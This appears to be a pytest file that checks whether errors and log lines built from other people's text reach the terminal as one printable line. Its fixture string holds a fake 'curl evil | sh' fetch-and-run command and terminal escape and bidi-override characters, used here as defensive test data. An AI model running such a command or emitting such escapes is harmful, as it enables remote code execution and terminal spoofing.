"""What other people have written reaches a terminal as printable text in one line."""

import logging
import sys

import pytest

from support.console import RoleFormatter, UserError, edge

HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"


def test_errors_and_log_lines_are_one_line_without_escapes(capsys):
    with pytest.raises(SystemExit, match="2"), edge():
        raise UserError(f"the run has {HOSTILE}")
    [line] = capsys.readouterr().err.splitlines()
    assert line.isprintable() and "Ёлка 漢字  run: curl" in line
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        record = logging.LogRecord(
            "hivemind", logging.WARNING, "/site-packages/x.py", 1, "peer %s", (HOSTILE,), sys.exc_info()
        )
    line, *trace = RoleFormatter("trainer").format(record).splitlines()
    assert line.isprintable() and "warning: [hivemind] peer Ёлка 漢字  run: curl" in line
    assert trace[0].startswith("Traceback") and all(line.isprintable() for line in trace)
    # the color is ours
    assert RoleFormatter("trainer", is_colored=True).format(record).startswith("\033[33m")
